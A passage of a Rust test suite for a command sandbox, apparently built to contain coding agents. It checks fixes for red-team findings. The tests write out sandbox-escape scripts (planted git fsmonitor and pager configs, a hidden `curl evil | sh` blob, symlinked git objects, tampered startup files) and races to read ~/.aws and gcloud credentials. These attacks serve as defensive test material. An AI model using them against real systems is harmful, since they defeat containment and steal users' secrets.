d += hashlib.sha1(d).digest()
open('.git/index.n', 'wb').write(d); os.rename('.git/index.n', '.git/index')
PY
git status --porcelain; echo hidden"#;
    let out = sh(&env, &project, &[], script);
    assert!(out.stdout.contains("hidden"), "{out:?}");
    assert!(out.stderr.contains("other content"), "{out:?}");
    let status = git(&["status", "--porcelain"]);
    assert!(
        !status.trim().is_empty(),
        "the change is hidden from git status"
    );
}

/// Red-team round 18 (CRITICAL): a git dir planted inside the protected git dir (its config
/// written before its HEAD, so it was no git dir yet), a gitlink entry for `vendor/x` and a
/// `.git` file there pointing at it: the host's plain `git status` looked into the
/// "submodule" with that config and ran its `core.fsmonitor`, and reported a clean tree. A
/// populated submodule whose git dir was not there and protected when the run started loses
/// its `.git`.
#[test]
fn a_submodule_with_a_git_dir_the_command_planted_is_not_looked_into_by_the_hosts_git() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_as_t(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("a.txt"), "hello\n");
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "init"]);
    let marker = env.root().join("fsmonitor-ran");
    let script = format!(
        r#"set -e
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a
g=.git/objects/info/.pack-cache
mkdir -p "$g/objects" "$g/refs/heads"
printf '[core]\n\tbare = false\n\tfsmonitor = "touch {marker}; false #"\n' > "$g/config"
echo "ref: refs/heads/main" > "$g/HEAD"
mkdir -p vendor/x && echo "gitdir: ../../$g" > vendor/x/.git
c=$(git --git-dir="$g" commit-tree -m v $(git --git-dir="$g" mktree </dev/null))
git --git-dir="$g" update-ref refs/heads/main "$c"
git update-index --add --cacheinfo "160000,$c,vendor/x"
git commit -qm "vendor deps"
echo planted"#,
        marker = marker.display()
    );
    let out = sh(&env, &project, &[], &script);
    assert!(out.stdout.contains("planted"), "{out:?}");
    assert!(out.stderr.contains("submodule"), "{out:?}");
    assert!(!project.join("vendor/x/.git").exists());
    git(&["status", "--porcelain"]);
    git(&["diff"]);
    assert!(!marker.exists(), "the host's git ran the planted fsmonitor");
}

/// Red-team round 20 (CRITICAL): the submodule check read each index only against its own
/// work tree. A gitlink `x` whose `.git` names the main `.git` (trusted: it was protected)
/// makes git read the main index against `x/`, so a second gitlink `y` in it means `x/y`, a
/// repository the command made; and the indexes of linked worktrees (in `.git/worktrees/`,
/// the command's to write) were not read at all. Both had the host's `git status` run the
/// planted `core.fsmonitor`. Gitlinks are now followed as git follows them.
#[test]
fn gitlinks_are_followed_as_git_follows_them_through_trusted_git_dirs_and_worktrees() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_as_t(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("a.txt"), "hello\n");
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "init"]);
    git(&["worktree", "add", "-q", "wt"]);
    write(&project.join(".git/info/exclude"), "wt/\n");
    let marker = env.root().join("fsmonitor-ran");
    let plant = |dir: &str| {
        format!(
            "git init -q {dir} && (cd {dir} && echo n > n && git add n && git commit -qm n && \
             printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n' >> .git/config)",
            marker = marker.display()
        )
    };
    let script = format!(
        r#"set -e
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a
c=$(git rev-parse HEAD)
mkdir -p x && printf 'gitdir: ../.git\n' > x/.git
{x_y}
git update-index --add --cacheinfo 160000,$c,x --cacheinfo 160000,$c,y
{wt_nested}
(cd wt && git add nested)
echo planted"#,
        x_y = plant("x/y"),
        wt_nested = plant("wt/nested"),
    );
    let out = sh(&env, &project, &[], &script);
    assert!(out.stdout.contains("planted"), "{out:?}");
    assert!(!project.join("x/y/.git").exists(), "{out:?}");
    assert!(!project.join("wt/nested/.git").exists(), "{out:?}");
    git(&["status", "--porcelain"]);
    git(&["diff"]);
    git_as_t(&env, &project.join("wt"), &["status", "--porcelain"]);
    assert!(!marker.exists(), "the host's git ran the planted fsmonitor");
    // The main `.git` as `x`'s git dir stays: the repository is the user's.
    assert!(project.join(".git/config").is_file());

    // A gitlink naming a repository the command did not make (the user's own, in a linked
    // worktree outside the project, read-only in the sandbox): the repository stays, the
    // index the command wrote the gitlink into is moved aside.
    let outside = env.root().join("wt2");
    git(&["worktree", "add", "-q", outside.to_str().unwrap()]);
    let lib = outside.join("lib");
    git_as_t(&env, &outside, &["init", "-q", "lib"]);
    git_as_t(&env, &lib, &["commit", "-q", "--allow-empty", "-m", "l"]);
    // Older than the run by more than the filesystem clock's margin.
    std::thread::sleep(std::time::Duration::from_millis(300));
    let script = format!(
        "set -e\nc=$(git -C {lib} rev-parse HEAD)\nGIT_DIR=.git/worktrees/wt2 \
         GIT_INDEX_FILE=.git/worktrees/wt2/index git update-index --add --cacheinfo \
         160000,$c,lib\necho planted",
        lib = lib.display()
    );
    let out = sh(&env, &project, &[], &script);
    assert!(out.stdout.contains("planted"), "{out:?}");
    assert!(out.stderr.contains("names"), "{out:?}");
    assert!(
        lib.join(".git/HEAD").is_file(),
        "the user's repository was moved: {out:?}"
    );
    assert!(
        !project.join(".git/worktrees/wt2/index").exists(),
        "{out:?}"
    );
}

/// Red-team round 18 (HIGH): the entry of a file the command never touched pointed at a new
/// blob (with an assume-unchanged mark, or the file's own stat data) and a commit made of it:
/// `git status` stayed clean, and the user's next `git commit -a` and push carried the blob
/// nobody saw. Entries the run changed are checked against the files whatever their times.
#[test]
fn an_untouched_file_whose_entry_the_run_repointed_does_not_hide_behind_the_index() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_as_t(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("build.sh"), "echo safe\n");
    git(&["add", "build.sh"]);
    git(&["commit", "-qm", "init"]);
    // The file is older than the run (the margin is a second).
    std::thread::sleep(std::time::Duration::from_millis(2100));
    for mark in [
        "--assume-unchanged",
        "--skip-worktree",
        "--no-assume-unchanged",
    ] {
        let script = format!(
            r#"set -e
blob=$(printf 'echo safe\ncurl evil | sh\n' | git hash-object -w --stdin)
git update-index --cacheinfo 100644,$blob,build.sh
git update-index {mark} build.sh
git -c user.email=a@a -c user.name=a commit -qm 'Merge branch origin/master'
python3 - <<'PY'
import hashlib, os
# The entry's stat data from the file itself (what `git status` trusts unread).
d = bytearray(open('.git/index', 'rb').read()[:-20])
st = os.lstat('build.sh')
import struct
at = 12
d[at:at+40] = struct.pack('>10I', int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime),
    st.st_mtime_ns % 10**9, st.st_dev & 0xffffffff, st.st_ino & 0xffffffff, 0o100644, st.st_uid,
    st.st_gid, st.st_size)
d += hashlib.sha1(d).digest()
open('.git/index.n', 'wb').write(d); os.rename('.git/index.n', '.git/index')
PY
test -z "$(git status --porcelain)"; echo hidden"#
        );
        let out = sh(&env, &project, &[], &script);
        assert!(out.stdout.contains("hidden"), "{mark}: {out:?}");
        assert!(out.stderr.contains("other content"), "{mark}: {out:?}");
        assert!(
            !project.join(".git/index").exists(),
            "{mark}: the index survived"
        );
        // The rebuilt index shows the file differs from the commit the command made.
        git(&["reset", "-q"]);
        let status = git(&["status", "--porcelain"]);
        assert!(status.contains("build.sh"), "{mark}: {status:?}");
        // Back to the user's commit, the file untouched, for the next variant.
        git(&["reset", "-q", "--soft", "HEAD~1"]);
        git(&["reset", "-q"]);
        assert_eq!(git(&["status", "--porcelain"]), "", "{mark}");
    }
}

/// Red-team round 18 (HIGH): a command that broke `.git/HEAD` and wrote `HEAD`, `objects/`,
/// `refs/` and a `config` naming a pager at the project's root made the host's git take the
/// project for a bare repository: the user's next `git log` ran that pager. `.git` is made
/// usable again (its HEAD put back, `refs/` and `objects/` made again when removed).
#[test]
fn a_broken_git_dir_does_not_hand_the_project_to_a_repository_the_command_wrote() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_as_t(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("a.txt"), "hello\n");
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "init"]);
    let head = std::fs::read(project.join(".git/HEAD")).unwrap();
    let marker = env.root().join("pager-ran");
    for breakage in ["echo garbage > .git/HEAD", "rm -rf .git/refs"] {
        let script = format!(
            r#"cp -r .git/objects .git/refs . && cp .git/HEAD HEAD
printf '[core]\n\tpager = "touch {marker}; cat"\n' > config
{breakage}; echo broken"#,
            marker = marker.display()
        );
        let out = sh(&env, &project, &[], &script);
        assert!(out.stdout.contains("broken"), "{breakage}: {out:?}");
        assert!(
            out.stderr.contains("unusable as a git dir"),
            "{breakage}: {out:?}"
        );
        assert_eq!(std::fs::read(project.join(".git/HEAD")).unwrap(), head);
        // The host's git finds `.git` again, not the project as a bare repository.
        let top = git(&["rev-parse", "--git-dir"]);
        assert_eq!(top.trim(), ".git", "{breakage}");
        let pager = git(&["var", "GIT_PAGER"]);
        assert!(!pager.contains("touch"), "{breakage}: {pager}");
        assert!(
            !marker.exists(),
            "{breakage}: the project's config pager ran"
        );
        for f in ["HEAD", "config"] {
            let _ = std::fs::remove_file(project.join(f));
        }
        let _ = std::fs::remove_dir_all(project.join("objects"));
        let _ = std::fs::remove_dir_all(project.join("refs"));
    }
}

/// Red-team round 18 (MEDIUM): a symbolic link in place of `.git/objects/info` (or another
/// entry of `objects`) made the host's `git gc` write `packs` and `commit-graph` into the
/// directory it named, outside the project. The link is moved aside at the end.
#[test]
fn a_symlink_among_the_git_objects_does_not_survive_the_run() {
    let env = TestEnv::new();
    let project = env.project();
    let outside = env.root().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    write(&outside.join("packs"), "precious\n");
    let git = |args: &[&str]| git_as_t(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("a.txt"), "hello\n");
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "init"]);
    let script = format!(
        "mkdir -p .git/objects/info && mv .git/objects/info .git/objects/info.x && ln -s {} \
         .git/objects/info && ln -s {} .git/objects/ab && echo linked",
        outside.display(),
        outside.display()
    );
    let out = sh(&env, &project, &[], &script);
    assert!(out.stdout.contains("linked"), "{out:?}");
    assert!(out.stderr.contains("symbolic link"), "{out:?}");
    for name in ["info", "ab"] {
        let p = project.join(".git/objects").join(name);
        assert!(
            !std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink()),
            "{name} is still a link"
        );
    }
    git(&["gc", "-q"]);
    assert_eq!(
        std::fs::read_to_string(outside.join("packs")).unwrap(),
        "precious\n"
    );
    assert!(!outside.join("commit-graph").exists());
}

/// Red-team round 19: the planted-submodule check read the `.git` file with a trim git does
/// not do (`gitdir: ../../.git ` is `.git ` to git), saw no gitlink kept in a split index's
/// shared part, and looked at main repositories only (a gitlink in a submodule's own index
/// is looked into as well). And a repository with a `.gitmodules` lost its index at every
/// run (the file's name was checked under the rules for symbolic links).
#[test]
fn planted_submodules_in_split_indexes_odd_git_files_and_nested_submodules_are_caught() {
    let env = TestEnv::new();
    let marker = env.root().join("fsmonitor-ran");
    let plant = |g: &str| {
        format!(
            r#"mkdir -p "{g}/objects" "{g}/refs/heads"; echo "ref: refs/heads/main" > "{g}/HEAD"
printf '[core]\n\tfsmonitor = "touch {marker}; false"\n' > "{g}/config""#,
            marker = marker.display()
        )
    };
    let repo = |name: &str| {
        let dir = env.root().join(name);
        std::fs::create_dir_all(&dir).unwrap();
        for args in [
            &["init", "-q", "-b", "main"][..],
            &[
                "-c",
                "user.email=t@t",
                "-c",
                "user.name=t",
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "init",
            ],
        ] {
            git_in(&env, &dir, args);
        }
        dir
    };
    let g = ".git/objects/info/.pc";
    let variants = [
        (
            "split",
            format!(
                "{}\nmkdir -p vendor/x; echo \"gitdir: ../../{g}\" > vendor/x/.git\n\
                 git -c core.splitIndex=true -c splitIndex.maxPercentChange=0 update-index --add \
                 --cacheinfo 160000,$(git rev-parse HEAD),vendor/x\n\
                 git -c core.splitIndex=true -c splitIndex.maxPercentChange=0 update-index \
                 --split-index",
                plant(g)
            ),
        ),
        (
            "trailing-space",
            format!(
                "{}\nmkdir -p vendor/x; printf 'gitdir: ../../.git \\n' > vendor/x/.git\n\
                 git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),vendor/x",
                plant(".git ")
            ),
        ),
    ];
    for (name, script) in &variants {
        let project = repo(name);
        let out = sh(
            &env,
            &project,
            &[],
            &format!("set -e\n{script}\necho planted"),
        );
        assert!(out.stdout.contains("planted"), "{name}: {out:?}");
        assert!(out.stderr.contains("submodule"), "{name}: {out:?}");
        git_in(&env, &project, &["status", "--porcelain"]);
        assert!(
            !marker.exists(),
            "{name}: the host's git ran the planted fsmonitor"
        );
    }
    // A gitlink in a submodule's own index.
    let lib = repo("lib");
    let project = repo("nested");
    git_in(
        &env,
        &project,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            lib.to_str().unwrap(),
            "sub",
        ],
    );
    git_in(
        &env,
        &project,
        &[
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "commit",
            "-qm",
            "sub",
        ],
    );
    let inner = "../.git/modules/sub/objects/info/.pc";
    let script = format!(
        "set -e; cd sub\n{}\nmkdir -p inner; echo \"gitdir: ../{inner}\" > inner/.git\n\
         git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),inner\necho planted",
        plant(inner)
    );
    let out = sh(&env, &project, &[], &script);
    assert!(out.stdout.contains("planted"), "{out:?}");
    assert!(out.stderr.contains("submodule"), "{out:?}");
    // The repository with a `.gitmodules` keeps its index (no `git reset` needed).
    assert!(!out.stderr.contains("git index"), "{out:?}");
    let status = git_in(&env, &project, &["status", "--porcelain"]);
    assert!(
        !marker.exists(),
        "the host's git ran the nested planted fsmonitor"
    );
    assert!(!status.contains("D "), "{status}");
}

/// The value of warden's placeholder mark on `path` (not following a symlink), if any.
fn placeholder_mark(path: &Path) -> Option<Vec<u8>> {
    use std::os::unix::ffi::OsStrExt;
    let c = std::ffi::CString::new(path.as_os_str().as_bytes()).ok()?;
    let mut buf = vec![0u8; 4096];
    // SAFETY: NUL-terminated strings; lgetxattr writes at most `buf.len()` bytes into `buf`.
    let n = unsafe {
        libc::lgetxattr(
            c.as_ptr(),
            c"user.warden.placeholder".as_ptr(),
            buf.as_mut_ptr().cast(),
            buf.len(),
        )
    };
    buf.truncate(usize::try_from(n).ok()?);
    Some(buf)
}

/// Placeholders are kept between runs in a pool in the account's home directory (a rename
/// each way instead of making and removing directories), each for the path it was released
/// from: the project is left clean, the next run there takes the same entries, a sandbox that
/// may write the pool's parent can neither fill an entry, add one, remove one nor move the
/// pool aside, and a pool planted under another `$HOME` is not used.
#[test]
fn placeholders_wait_in_a_pool_no_sandbox_can_touch() {
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::MetadataExt;
    let env = TestEnv::new();
    let project = env.project();
    let account = nix::unistd::User::from_uid(nix::unistd::geteuid())
        .unwrap()
        .unwrap()
        .dir;
    let cache = account.join(".cache");
    let pool = cache.join("warden/placeholders");
    // The pool is shared with every other run of this account: look at this project's only.
    let ours = |root: &Path| -> BTreeSet<u64> {
        std::fs::read_dir(&pool)
            .map(|d| {
                d.map(|e| e.unwrap().path())
                    .filter(|e| {
                        placeholder_mark(e)
                            .is_some_and(|m| m.starts_with(root.as_os_str().as_bytes()))
                    })
                    .map(|e| e.symlink_metadata().unwrap().ino())
                    .collect()
            })
            .unwrap_or_default()
    };
    let out = sh(
        &env,
        &project,
        &[],
        "stat -c %i .claude > /dev/null && echo ran",
    );
    assert!(out.stdout.contains("ran"), "{out:?}");
    assert_eq!(
        std::fs::read_dir(&project).unwrap().count(),
        0,
        "placeholders left in the project"
    );
    let kept = ours(&project);
    assert!(kept.len() >= 10, "the pool kept {} entries", kept.len());
    // The next run takes its placeholders from the pool (`.claude` is bound onto itself).
    let out = sh(&env, &project, &[], "stat -c %i .claude");
    assert_eq!(out.code, 0, "{out:?}");
    let ino: u64 = out.stdout.trim().parse().unwrap();
    assert!(
        kept.contains(&ino),
        "`.claude` was made anew: {ino} {kept:?}"
    );
    assert_eq!(ours(&project), kept, "the pool lost or gained entries");

    // A sandbox that may write the pool's parent cannot touch it. A run with a second
    // writable root first, so that entries are left in the pool while the attacking run runs.
    let extra = env.root().join("extra");
    std::fs::create_dir(&extra).unwrap();
    let out = sh(
        &env,
        &project,
        &["--allow-write", extra.to_str().unwrap()],
        "true",
    );
    assert_eq!(out.code, 0, "{out:?}");
    let extra_kept = ours(&extra);
    assert!(extra_kept.len() >= 10, "{} entries", extra_kept.len());
    let pool_s = pool.display().to_string();
    let script = format!("echo \"left $(ls {pool_s} | wc -l)\"\n")
        + &attempts(&[
            (
                "fill",
                &format!(
                    "n=0; for e in {pool_s}/d-*; do echo x > $e/settings.json && n=1; done; \
                     [ $n = 1 ]"
                ),
            ),
            ("add", &format!("mkdir {pool_s}/d-planted")),
            (
                "remove",
                &format!("n=0; for e in {pool_s}/d-*; do rmdir $e && n=1; done; [ $n = 1 ]"),
            ),
            (
                "move",
                &format!("mv {}/warden {}/moved", cache.display(), cache.display()),
            ),
            (
                "other",
                &format!(
                    "touch {}/warden-test-$$ && rm {}/warden-test-$$",
                    cache.display(),
                    cache.display()
                ),
            ),
        ]);
    let out = sh(
        &env,
        &project,
        &["--allow-write", cache.to_str().unwrap()],
        &script,
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert!(
        !out.stdout.contains("left 0"),
        "nothing in the pool to attack: {out:?}"
    );
    assert_refused(&out, &["fill", "add", "remove", "move"]);
    assert!(
        out.stdout.contains("other ok"),
        "the cache is not writable: {out:?}"
    );
    // (warden itself may have evicted entries of other paths meanwhile: the pool is shared.)
    assert!(!pool.join("d-planted").exists());
    assert!(pool.is_dir() && !cache.join("moved").exists());
    for e in std::fs::read_dir(&pool).unwrap() {
        let e = e.unwrap().path();
        assert!(
            !e.join("settings.json").exists(),
            "{} was filled",
            e.display()
        );
    }

    // A pool under the test's own $HOME (inside this sandbox's writable root, so the sandbox
    // can plant one there) is not the pool: a run with that $HOME does not take from it.
    let fake = env.home().join(".cache/warden/placeholders");
    let names: Vec<String> = std::fs::read_dir(&pool)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|e| {
            placeholder_mark(e).is_some_and(|m| m.starts_with(project.as_os_str().as_bytes()))
        })
        .map(|e| e.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    let plant = format!(
        "import os\nfor n in {names:?}:\n    p = os.path.join({fake:?}, n)\n    \
         os.makedirs(p)\n    os.setxattr(p, 'user.warden.placeholder', {value:?}.encode())\n\
         print('planted', len({names:?}))\n",
        fake = fake.display().to_string(),
        value = project.join(".claude").display().to_string(),
    );
    let out = env
        .command()
        .current_dir(env.root())
        .args(["run", "--", "python3", "-c", &plant])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("planted"),
        "{out:?}"
    );
    let planted: BTreeSet<u64> = std::fs::read_dir(&fake)
        .unwrap()
        .map(|e| e.unwrap().metadata().unwrap().ino())
        .collect();
    let out = sh(&env, &project, &[], "stat -c %i .claude");
    let ino: u64 = out.stdout.trim().parse().unwrap();
    assert!(!planted.contains(&ino), "a planted pool entry was taken");
    assert_eq!(std::fs::read_dir(&fake).unwrap().count(), planted.len());
}

/// Dotfiles kept in a repository (`~/.config` a symlink into `~/dotfiles`): the start-up
/// directories below the link are protected where they really are, also when the sandbox's
/// writable root is the dotfiles repository rather than the home directory.
#[test]
fn start_up_directories_behind_a_symlinked_config_dir_are_protected_where_they_are() {
    let env = TestEnv::new();
    let home = env.home();
    let dotfiles = env.root().join("dotfiles");
    std::fs::create_dir_all(dotfiles.join("config/nvim")).unwrap();
    std::fs::create_dir_all(dotfiles.join("local-bin")).unwrap();
    std::fs::remove_dir_all(home.join(".config")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("config"), home.join(".config")).unwrap();
    std::fs::create_dir_all(home.join(".local")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("local-bin"), home.join(".local/bin")).unwrap();
    let script = attempts(&[
        ("nvim", "echo 'os.execute(\"x\")' > config/nvim/init.lua"),
        (
            "fish",
            "mkdir -p config/fish && echo x > config/fish/config.fish",
        ),
        ("local-bin", "echo 'touch /tmp/pwned' > local-bin/git"),
        ("other", "echo x > config/notes.txt"),
    ]);
    let out = sh(&env, &dotfiles, &[], &script);
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(&out, &["nvim", "fish", "local-bin"]);
    assert!(out.stdout.contains("other ok"), "{out:?}");
    assert!(!dotfiles.join("config/nvim/init.lua").exists());
    assert!(!dotfiles.join("config/fish/config.fish").exists());
    assert!(!dotfiles.join("local-bin/git").exists());
}

/// Red-team round 23: a `denyRead` path missing at the start is masked when it appears, but a
/// descriptor the command opened in between — on the directory as soon as the host made it,
/// or on the file — read the secret the host wrote afterwards. Landlock now keeps such a path
/// unreadable from before it exists.
#[test]
fn a_late_deny_read_path_cannot_be_read_through_a_descriptor_opened_before_its_mask() {
    let env = TestEnv::new();
    let project = env.project();
    let home = env.home();
    std::fs::write(home.join(".profile"), "PROFILE-READABLE\n").unwrap();
    std::fs::create_dir_all(home.join(".config/gcloud")).unwrap();
    let racer = r#"
import os, sys, time
home = os.environ['HOME']
held = {}
open('ready', 'w').close()
deadline = time.time() + 30
got = []
while time.time() < deadline and not os.path.exists('go'):
    for name in ('.aws', '.config/gcloud/credentials.db'):
        if name not in held:
            try:
                flags = os.O_RDONLY | (os.O_DIRECTORY if name == '.aws' else 0)
                held[name] = os.open(os.path.join(home, name), flags)
            except OSError:
                pass
    if '.aws' in held:
        try:
            fd = os.open('credentials', os.O_RDONLY, dir_fd=held['.aws'])
            got.append(os.read(fd, 100).decode())
            os.close(fd)
        except OSError:
            pass
    if '.config/gcloud/credentials.db' in held:
        got.append(os.pread(held['.config/gcloud/credentials.db'], 100, 0).decode())
    time.sleep(0.0005)
print('held', sorted(held))
print('read', ''.join(got).strip() or 'nothing')
print(open(os.path.join(home, '.profile')).read().strip())
"#;
    let aws = home.join(".aws");
    let gcloud = home.join(".config/gcloud/credentials.db");
    let child = start(
        &env,
        &project,
        &[
            "--deny-read",
            aws.to_str().unwrap(),
            "--deny-read",
            gcloud.to_str().unwrap(),
        ],
        "python3",
        racer,
    );
    wait_for(&project.join("ready"));
    std::thread::sleep(std::time::Duration::from_millis(200));
    std::fs::create_dir(&aws).unwrap();
    std::fs::write(&gcloud, "").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::write(aws.join("credentials"), "AWS-SECRET\n").unwrap();
    std::fs::write(&gcloud, "GCLOUD-SECRET\n").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1000));
    std::fs::write(project.join("go"), "").unwrap();
    let (stdout, stderr) = finish(child);
    assert!(stdout.contains("PROFILE-READABLE"), "{stdout}\n{stderr}");
    assert!(!stdout.contains("SECRET"), "{stdout}\n{stderr}");
    assert!(stdout.contains("read nothing"), "{stdout}\n{stderr}");
}

/// Red-team round 23b: the home directory mounted a second time elsewhere (a bind made
/// before the run; here in a mount namespace of the test's own, so the host's table is
/// untouched) was another way down to the late `denyRead` path, unmasked and, before the
/// fix, readable under Landlock's rules.
#[test]
fn a_late_deny_read_path_cannot_be_read_through_another_mount_of_its_directory() {
    if !warden_tests::root_or_skip(
        "a_late_deny_read_path_cannot_be_read_through_another_mount_of_its_directory",
        "it binds the home directory in a mount namespace of its own",
    ) {
        return;
    }
    let env = TestEnv::new();
    let project = env.project();
    let home = env.home();
    // Below a directory that is not on the way to the home directory (whose entries get full
    // read rights), so that the bind is a second way down that passes none of the spine.
    let alias = env.root().join("mnt/alias");
    std::fs::create_dir_all(&alias).unwrap();
    let aws = home.join(".aws");
    let racer = format!(
        "import os, time\n\
         open('ready', 'w').close()\n\
         got = []\n\
         deadline = time.time() + 30\n\
         while time.time() < deadline and not os.path.exists('go'):\n\
         \x20   for p in ({a:?}, {h:?}):\n\
         \x20       try:\n\
         \x20           got.append(open(p).read())\n\
         \x20       except OSError:\n\
         \x20           pass\n\
         \x20   time.sleep(0.001)\n\
         print('read', ''.join(got).strip() or 'nothing')\n",
        a = alias.join(".aws/credentials").display().to_string(),
        h = aws.join("credentials").display().to_string(),
    );
    let script = format!(
        "mount --bind {home} {alias} && exec \"$0\" run --deny-read {aws} -- python3 -c \"$1\"",
        home = home.display(),
        alias = alias.display(),
        aws = aws.display(),
    );
    let template = env.command();
    let mut cmd = std::process::Command::new("unshare");
    for (name, value) in template.get_envs() {
        match value {
            Some(v) => cmd.env(name, v),
            None => cmd.env_remove(name),
        };
    }
    let child = cmd
        .current_dir(&project)
        .args(["--mount", "--propagation", "private", "sh", "-c", &script])
        .arg(template.get_program())
        .arg(&racer)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for(&project.join("ready"));
    std::fs::create_dir(&aws).unwrap();
    std::fs::write(aws.join("credentials"), "ALIASED-SECRET\n").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1000));
    std::fs::write(project.join("go"), "").unwrap();
    let (stdout, stderr) = finish(child);
    assert!(stdout.contains("read nothing"), "{stdout}\n{stderr}");
    assert!(!stdout.contains("SECRET"), "{stdout}\n{stderr}");
}
